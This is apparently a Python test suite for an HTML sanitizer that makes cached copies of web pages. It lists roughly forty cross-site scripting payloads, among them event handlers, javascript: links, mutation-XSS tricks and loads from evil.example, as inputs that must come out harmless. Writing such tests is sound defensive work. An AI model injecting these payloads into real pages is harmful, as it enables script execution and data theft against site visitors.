"""Cached copies are harmless: nothing runs, nothing is sent, nothing is loaded, and nothing takes forever."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st
from selectolax.lexbor import LexborHTMLParser
from tests.web.public.sample_pages import first

from vedette.web.public.cached_copy import ALLOWED_TAGS, MAX_CHARACTERS, MAX_DEPTH, sanitize_html

URL = "https://example.org/folder/page"
HOSTILE = (
    "<script>hurt()</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT >",
    "<script><!--<script></script>hurt()</script>",
    "<img src=x onerror=hurt()>",
    "<img src='https://evil.example/pixel.gif' alt='a\"b'>",
    "<img srcset='https://evil.example/x 2x' src=data:image/svg+xml;base64,PHN2Zz4=>",
    '<a href="javascript:hurt()">x</a>',
    '<a href="java\tscript:hurt()">x</a>',
    '<a href="&#106;avascript:hurt()">x</a>',
    '<a href="data:text/html,<script>hurt()</script>">x</a>',
    "<a href=/ok onclick=hurt() style=color:red ping=https://evil.example>x</a>",
    "<svg><script>hurt()</script><a xlink:href='javascript:hurt()'>x</a></svg>",
    "<svg onload=hurt()><title><style><img src=x onerror=hurt()></style></title>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=hurt()&gt;'>",
    "<form action=https://evil.example><input name=q autofocus onfocus=hurt()><button formaction=x>go</button></form>",
    "<iframe src=https://evil.example srcdoc='<script>hurt()</script>'></iframe>",
    "<object data=x></object><embed src=x><applet code=x></applet><portal src=x></portal>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/><a href=x>y</a>",
    "<link rel=stylesheet href=https://evil.example/x.css><link rel=prefetch href=https://evil.example>",
    "<style>@import 'https://evil.example/x.css'; body { background: url(https://evil.example/x) }</style>",
    "<p style='background:url(https://evil.example/x)'>x</p>",
    "<video src=https://evil.example poster=x><source src=y><track src=z></video><audio src=x></audio>",
    "<body background=https://evil.example onload=hurt()><table background=x><td background=y>z",
    "<noscript><p title='</noscript><img src=x onerror=hurt()>'>",
    "<textarea></textarea><script>hurt()</script>",
    "<template><script>hurt()</script></template><slot onslotchange=hurt()></slot>",
    "<p title='\"><script>hurt()</script>'>x",
    "<!--><script>hurt()</script>-->",
    "<![CDATA[<script>hurt()</script>]]>",
    "<?xml version=1.0?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>hurt()</x:script>",
    "&lt;script&gt;hurt()&lt;/script&gt;",
    "<plaintext><script>hurt()</script>",
    "<xmp><img src=x onerror=hurt()></xmp><listing><img src=x onerror=hurt()></listing>",
    "<select><option><style></select><img src=x onerror=hurt()></style>",
    "<details ontoggle=hurt() open>x</details><marquee onstart=hurt()>x</marquee><dialog open>x</dialog>",
    "<a href='https://ok.example/\"onmouseover=\"hurt()'>x</a>",
    "<\0script>hurt()</script><scr\0ipt>hurt()</script>",
    "<p lang='\"><script>hurt()</script>' dir=rtl>x</p>",
)
# Attributes that a copy may have, and nothing else.
HARMLESS = {"lang", "dir", "href", "target", "rel", "src", "alt", "start", "colspan", "rowspan", "datetime"}


def complaints(shown: str) -> list[str]:
    """List what a browser finds in a copy that must not be there."""
    found = []
    for node in LexborHTMLParser(f"<body><div>{shown}</div></body>").css("div *"):
        found += [] if node.tag in ALLOWED_TAGS else [f"element {node.tag}"]
        for name, value in node.attributes.items():
            found += [] if name in HARMLESS else [f"attribute {name}"]
            if name == "href" and not (value or "").startswith(("http://", "https://")):
                found.append(f"link to {value}")
            if name == "src" and not (value or "").startswith("data:image/"):
                found.append(f"picture from {value}")
    return found


@pytest.mark.parametrize("html", HOSTILE)
def test_a_hostile_page_is_harmless(html: str) -> None:
    """None of the known ways to run, send or load something is left, alone or inside other markup."""
    for page in (html, f"<div><p>before {html} after</p></div>", f"<table><tr>{html}", f"<ul><li><b>{html}"):
        assert complaints(sanitize_html(page, URL)) == []


PIECES = st.sampled_from(
    [
        *HOSTILE,
        *("<p>", "</p>", "<b>", "</b>", "<table>", "<td>", "</table>", "<svg>", "</svg>", "<math>", "<style>"),
        *("</style>", "<title>", "<!--", "-->", "'", '"', ">", "<", "text", "<a href=x>", "</a>", "<li>", "</div>"),
    ]
)


@given(st.lists(PIECES, max_size=12).map("".join))
def test_no_mixture_is_harmful(html: str) -> None:
    """Pieces of hostile pages in any order are as harmless as each of them alone."""
    assert complaints(sanitize_html(html, URL)) == []


@given(st.text())
def test_any_text_is_survived(html: str) -> None:
    """No text causes an error."""
    assert complaints(sanitize_html(html, html)) == []


@given(st.lists(PIECES, max_size=12).map("".join))
def test_cleaning_twice_changes_nothing_more(html: str) -> None:
    """Clean content is unchanged."""
    once = sanitize_html(html, URL)
    assert sanitize_html(once, URL) == once


def test_the_content_of_a_page_is_kept() -> None:
    """Headings, paragraphs, lists, tables, code and embedded images remain."""
    html = (
        "<!doctype html><title>T</title><h1>Lag</h1><p>One<p>Two <code>x &lt; y</code><ul><li>a<li>b</ul>"
        "<table><tr><th>k<td colspan=2>v</table><pre>\n  kept\n</pre><img src='data:image/png;base64,AAAA' alt=dot>"
    )
    tree = LexborHTMLParser(sanitize_html(html, URL))
    assert [node.text() for node in tree.css("h1, p, li, th, td")] == ["Lag", "One", "Two x < y", "a", "b", "k", "v"]
    assert [node.attributes["alt"] for node in tree.css("img")] == ["dot"]
    assert first(tree, "td").attributes == {"colspan": "2"}
    assert first(tree, "pre").text() == "  kept\n"


def test_external_images_become_their_alternative_text() -> None:
    """An external image is replaced with its alternative text, or removed if there is none."""
    assert sanitize_html("<img src=/a.png alt='A <cat>'>", URL) == "<span>[A &lt;cat&gt;]</span>"
    assert sanitize_html("<img src=/a.png>", URL) == ""


def test_links_are_resolved_and_marked_nofollow() -> None:
    """A link leads where the page meant it to, sends no referrer, and opens separately."""
    link = first(LexborHTMLParser(sanitize_html("<a href='../other?a=1&amp;b=2'>x</a>", URL)), "a")
    assert link.attributes["href"] == "https://example.org/other?a=1&b=2"
    assert link.attributes["target"] == "_blank"
    assert set((link.attributes["rel"] or "").split()) == {"noopener", "noreferrer", "nofollow"}


def deepest(shown: str) -> int:
    """Return the depth of the elements of a copy."""
    depth = most = 0
    for closing, name in re.findall(r"<(/?)([a-z0-9]+)", shown):
        depth += 0 if name in {"br", "hr", "img", "wbr"} else -1 if closing else 1
        most = max(most, depth)
    return most


@pytest.mark.parametrize("tag", ["div", "b", "li"])
def test_deeply_nested_tags_are_flattened(tag: str) -> None:
    """Nesting that would keep a parser busy for minutes is flattened first; if the test hangs, it has failed."""
    shown = sanitize_html(f"<{tag}>" * (MAX_CHARACTERS // len(f"<{tag}>")), URL)
    assert deepest(shown) <= MAX_DEPTH


def test_formatting_left_open_does_not_multiply() -> None:
    """Unclosed formatting is not repeated in each paragraph, so the copy is about as long as the page."""
    page = "".join(f"<b id={n}>" for n in range(2_000)) + "<p>x</p>" * 20_000
    assert len(sanitize_html(page, URL)) < 2 * len(page)


def test_many_links_on_a_long_address_do_not_multiply() -> None:
    """Links are written with their full URL, so their number is limited; their text remains."""
    shown = sanitize_html("<a href=x>y</a> " * 40_000, URL + "/" + "z" * 1_900 + "/")
    assert len(shown) < 30 << 20
    assert first(LexborHTMLParser(shown), "body").text().count("y") == 40_000


def test_content_beyond_the_limit_is_left_out() -> None:
    """A page of any length becomes a copy of bounded length."""
    assert "end" not in sanitize_html("x" * MAX_CHARACTERS + "end", URL)
